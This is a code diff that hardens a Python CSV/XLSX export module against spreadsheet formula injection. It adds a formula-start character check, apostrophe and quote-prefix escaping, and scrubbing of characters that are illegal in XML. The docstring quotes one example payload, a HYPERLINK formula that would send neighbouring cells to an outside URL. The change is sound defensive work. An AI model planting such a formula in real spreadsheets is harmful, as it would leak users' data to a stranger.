@@ -1,6 +1,14 @@
-"""Tables for export: rows of cells, written as CSV (UTF-8 with BOM) or XLSX."""
+"""Tables for export: rows of cells, written as CSV (UTF-8 with BOM) or XLSX.
+
+Every cell a spreadsheet program opens passes through ``csv_cell`` or ``xlsx_cell``: text a
+staff member or a roster file wrote (a name, a note, a service name) must stay text. A cell
+that begins with = + - @ (or a tab or carriage return, or any of these after spaces) is a
+formula to Excel, WPS and LibreOffice: ``=HYPERLINK("http://…?"&C2,"x")`` in a name would
+send the row's neighbours to a stranger when the log is opened (OWASP "CSV injection").
+"""
 import csv
 import io
+import re
 
 from core.clock import to_local
 from peewee import JOIN
@@ -83,12 +91,72 @@ def day_log_rows(station, day):
     return log_rows(station, day, day)
 
 
+# The first characters that make a spreadsheet read a cell as a formula. The full-width forms
+# are included because Chinese input methods type them and some spreadsheet programs
+# convert them to the ASCII ones.
+FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
+# XML 1.0 cannot hold these (openpyxl refuses them: a stored note with one would stop an
+# export); they are shown as U+FFFD.
+_ILLEGAL_XML_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+
+
+def looks_like_formula(text):
+    """True when a spreadsheet could take the text for a formula (OWASP's rule)."""
+    if not isinstance(text, str) or not text:
+        return False
+    if text[0] in FORMULA_STARTS:
+        return True
+    stripped = text.lstrip(" \u00a0\u3000\n")
+    return bool(stripped) and stripped[0] in FORMULA_STARTS
+
+
+def csv_cell(value):
+    """A cell as CSV text that a spreadsheet shows as written, never runs as a formula.
+
+    Numbers stay numbers; text that could be a formula gets a leading apostrophe, which
+    Excel and WPS read as "this is text".
+    """
+    if value is None:
+        return ""
+    if isinstance(value, str):
+        return "'" + value if looks_like_formula(value) else value
+    return value
+
+
+def xlsx_cell(cell, value):
+    """Put a value into an openpyxl cell so that it is data, never a formula.
+
+    openpyxl stores any str beginning with "=" as a formula; text is written as a string
+    cell instead, and text that looks like a formula is also marked quote-prefixed, so that
+    editing the cell in Excel keeps it text.
+    """
+    if value is None:
+        cell.value = ""
+        return cell
+    if isinstance(value, str):
+        text = _ILLEGAL_XML_RE.sub("\ufffd", value)
+        cell.value = text
+        cell.data_type = "s"
+        if looks_like_formula(text):
+            cell.quotePrefix = True
+        return cell
+    cell.value = value
+    return cell
+
+
+def write_rows(sheet, rows, first_row=1):
+    """Write rows of values into an openpyxl worksheet from `first_row` on, via xlsx_cell."""
+    for number, row in enumerate(rows, start=first_row):
+        for column, value in enumerate(row, start=1):
+            xlsx_cell(sheet.cell(row=number, column=column), value)
+
+
 def to_csv(rows):
     """CSV bytes in UTF-8 with a BOM, so Excel on Chinese Windows opens it as Chinese."""
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
     for row in rows:
-        writer.writerow(["" if c is None else c for c in row])
+        writer.writerow([csv_cell(c) for c in row])
     return buffer.getvalue().encode("utf-8-sig")
 
 
@@ -119,8 +187,7 @@ def to_xlsx_sheets(sheets):
     used = set()
     for name, rows in sheets:
         ws = book.create_sheet(_sheet_title(name, used))
-        for row in rows:
-            ws.append(["" if c is None else c for c in row])
+        write_rows(ws, rows)
         if rows:
             for cell in ws[1]:
                 cell.font = Font(bold=True)
